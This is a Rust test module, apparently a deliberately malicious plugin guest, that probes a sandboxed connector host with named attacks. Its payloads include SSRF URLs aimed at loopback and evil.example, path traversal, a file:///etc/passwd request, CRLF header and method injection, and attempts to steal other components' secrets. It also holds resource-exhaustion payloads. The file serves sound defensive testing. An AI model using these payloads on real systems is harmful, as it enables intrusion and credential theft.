//! Attacks by requests and by answers.

use crate::guest::{
    hub::{Listed, Operation, Outcome, Step},
    log::{self, Level},
    types::{
        Answer, Body, Capture, Context, Credential, Detail, Digest, Effect, Encoding, Exchange, Failure,
        Header, HmacCredential, Part, Piece, Placement, Request, Source, SourceText, Span, Target,
    },
};

/// Ask for the things, one way or another.
pub(crate) fn begin(context: &Context, _: &Operation, attack: &str) -> Result<Step, Failure> {
    let base = setting(context, "evil.url");
    let mut request = get(&format!("{base}/things"));
    match attack {
        "undeclared host" => request.url = "http://127.0.0.2:1/things".to_owned(),
        "other port" => request.url = "http://127.0.0.1:1/things".to_owned(),
        "user info" => request.url = base.replacen("://", "://evil.example:80@", 1) + "/things",
        "host behind user info" => request.url = base.replacen("/api", "@evil.example/things", 1),
        "backslash" => request.url = format!("{base}\\@evil.example/things"),
        "unicode host" => request.url = "http://127。0。0。2/things".to_owned(),
        "decimal host" => request.url = "http://2130706434/things".to_owned(),
        "path traversal" => request.url = format!("{base}/../outside"),
        "encoded traversal" => request.url = format!("{base}/%2e%2e/outside"),
        "file URL" => request.url = "file:///etc/passwd".to_owned(),
        "line break in the URL" => request.url = format!("{base}/things HTTP/1.1\r\nX-Injected: 1\r\n"),
        "header injection" => request.headers.push(header("X-Harmless", "1\r\nX-Injected: 1")),
        "header name injection" => request.headers.push(header("X-Injected: 1\r\nX", "1")),
        "host header" => request.headers.push(header("Host", "evil.example")),
        "content length" => request.headers.push(header("Content-Length", "7")),
        "method injection" => request.method = "GET /outside HTTP/1.1\r\nX:".to_owned(),
        "undeclared secret" => request.credentials = vec![key_in("X-Key", "evil.other")],
        "another element's secret" => request.credentials = vec![key_in("X-Key", "oauth.api.secret")],
        "the instance's token" => request.credentials = vec![key_in("X-Key", "periodic.token")],
        "capture over the instance's token" => {
            request.captures = vec![capture("name", Target::Secret("periodic.token".to_owned()))]
        }
        "capture the callback" => {
            let callback = "event.notification.callback.url".to_owned();
            request.captures = vec![capture("name", Target::Setting(callback))];
        }
        "secret in another header" => request.credentials = vec![key_in("X-Other", "evil.key")],
        "secret in the query" => {
            request.credentials = vec![Credential::Query(Placement {
                name: "key".to_owned(),
                prefix: String::new(),
                secret: "evil.key".to_owned(),
            })];
        }
        "placeholder" => request
            .headers
            .push(header("X-Key", "{{evil.key}} {evil.key} ${evil.key}")),
        "capture over a secret" => {
            request.captures = vec![capture("name", Target::Secret("evil.key".to_owned()))]
        }
        "capture a secret as a setting" => {
            request.captures = vec![capture("name", Target::Setting("evil.key".to_owned()))];
        }
        "capture the address" => {
            request.captures = vec![capture("name", Target::Setting("evil.url".to_owned()))]
        }
        "endless life" => {
            request.captures = vec![capture("lifetime", Target::Lifetime("evil.key".to_owned()))];
        }
        "capture an echoed secret" => {
            request.captures = vec![capture("key", Target::Setting("evil.stolen".to_owned()))]
        }
        "too many captures" => {
            let captured = |number: i32| capture("name", Target::Setting(format!("evil.{number}")));
            request.captures = (0..33).map(captured).collect();
        }
        "too many headers" => {
            request.headers = (0..101)
                .map(|number| header(&format!("X-{number}"), "1"))
                .collect();
        }
        "too many credentials" => {
            request.credentials = (0..17).map(|_| key_in("X-Key", "evil.key")).collect()
        }
        "too long a URL" => request.url = format!("{base}/things?{}", "x".repeat(64 << 10)),
        "the body signed twice" => request.credentials.push(signed(vec![Part::Body, Part::Body])),
        "too many signed parts" => {
            request.credentials.push(signed(vec![Part::Seconds; 33]));
        }
        "a page token without end" => {
            return Ok(Step::Done(Outcome::Listed(Listed {
                records: Vec::new(),
                next: Some("x".repeat(9 << 10)),
                total: None,
            })));
        }
        "too many requests" => {
            let requests = (0..101).map(|_| get(&format!("{base}/things"))).collect();
            return Ok(Step::Send(Exchange {
                requests,
                state: Vec::new(),
            }));
        }
        "too large a state" => {
            return Ok(Step::Send(Exchange {
                requests: Vec::new(),
                state: vec![0; 2 << 20],
            }));
        }
        "come back at once" => {
            return Ok(Step::Send(Exchange {
                requests: Vec::new(),
                state: Vec::new(),
            }));
        }
        "huge string" => return Ok(Step::Done(Outcome::Fields("x".repeat(20 << 20)))),
        "another outcome" => return Ok(Step::Done(Outcome::Done)),
        "failure without end" => return Err(Failure::Permanent(detail("x".repeat(1 << 20)))),
        _ => {}
    }
    Ok(Step::Send(Exchange {
        requests: vec![request],
        state: vec![1],
    }))
}

/// Make something of the answers.
pub(crate) fn resume(
    context: &Context,
    state: Vec<u8>,
    answers: &[Answer],
    attack: &str,
) -> Result<Step, Failure> {
    let body = match answers {
        [Ok(response)] => response.body.clone(),
        [Err(error)] => return Err(Failure::Permanent(detail(format!("{error:?}")))),
        _ => Vec::new(),
    };
    let all = Span {
        answer: 0,
        offset: 0,
        length: u32::try_from(body.len()).unwrap_or(0),
    };
    let records = match attack {
        "come back for ever" => {
            return Ok(Step::Send(Exchange {
                requests: Vec::new(),
                state,
            }));
        }
        "grow the state" => {
            let state = vec![0; state.len().max(1) * 4];
            return Ok(Step::Send(Exchange {
                requests: Vec::new(),
                state,
            }));
        }
        "ask for ever" => {
            let requests = vec![get(&format!("{}/things", setting(context, "evil.url")))];
            return Ok(Step::Send(Exchange { requests, state }));
        }
        "no JSON" => vec![vec![text("{\"id\": ")]],
        "no record" => vec![Vec::new()],
        "span outside" => vec![vec![span(Span {
            offset: 1 << 20,
            ..all
        })]],
        "answer outside" => vec![vec![span(Span { answer: 7, ..all })]],
        "giant spans" => vec![
            (0..100_000)
                .map(|_| {
                    span(Span {
                        length: u32::MAX,
                        ..all
                    })
                })
                .collect(),
        ],
        "the same span again and again" => {
            let mut pieces = vec![text("[")];
            for _ in 0..200_000 {
                pieces.push(span(all));
                pieces.push(text(","));
            }
            pieces.push(text("1]"));
            vec![pieces]
        }
        "too many records" => (0..10_001)
            .map(|id| vec![text(&format!("{{\"id\":{id}}}"))])
            .collect(),
        "echo the context" => vec![vec![text(&serde_json::json!(format!("{context:?}")).to_string())]],
        "echo the answer" => {
            let shown = String::from_utf8_lossy(&body).into_owned();
            log::write(Level::Error, &shown);
            eprintln!("{shown}");
            vec![vec![span(all)]]
        }
        "fail with the answer" => {
            return Err(Failure::Permanent(detail(
                String::from_utf8_lossy(&body).into_owned(),
            )));
        }
        _ => vec![vec![span(all)]],
    };
    Ok(Step::Done(Outcome::Listed(Listed {
        records,
        next: None,
        total: None,
    })))
}

pub(crate) fn setting(context: &Context, key: &str) -> String {
    let found = context.configuration.iter().find(|setting| setting.key == key);
    found.map(|setting| setting.value.clone()).unwrap_or_default()
}

pub(crate) fn get(url: &str) -> Request {
    Request {
        method: "GET".to_owned(),
        url: url.to_owned(),
        headers: Vec::new(),
        body: Body::None,
        credentials: vec![key_in("X-Key", "evil.key")],
        effect: Effect::Read,
        captures: Vec::new(),
    }
}

pub(crate) fn text(text: &str) -> Piece {
    Piece {
        text: SourceText::Text(text.to_owned()),
        content: true,
    }
}

pub(crate) fn detail(message: String) -> Detail {
    Detail {
        message,
        provider_message: None,
    }
}

fn span(span: Span) -> Piece {
    Piece {
        text: SourceText::Span(span),
        content: true,
    }
}

fn header(name: &str, value: &str) -> Header {
    Header {
        name: name.to_owned(),
        value: value.to_owned(),
    }
}

fn key_in(name: &str, secret: &str) -> Credential {
    Credential::Header(Placement {
        name: name.to_owned(),
        prefix: String::new(),
        secret: secret.to_owned(),
    })
}

fn signed(over: Vec<Part>) -> Credential {
    Credential::Hmac(HmacCredential {
        header: "X-Signature".to_owned(),
        prefix: String::new(),
        digest: Digest::Sha256,
        encoding: Encoding::Hex,
        key: "evil.key".to_owned(),
        over,
        also: Vec::new(),
    })
}

pub(crate) fn capture(path: &str, into: Target) -> Capture {
    Capture {
        at: Source::Json(path.to_owned()),
        into,
        required: true,
    }
}
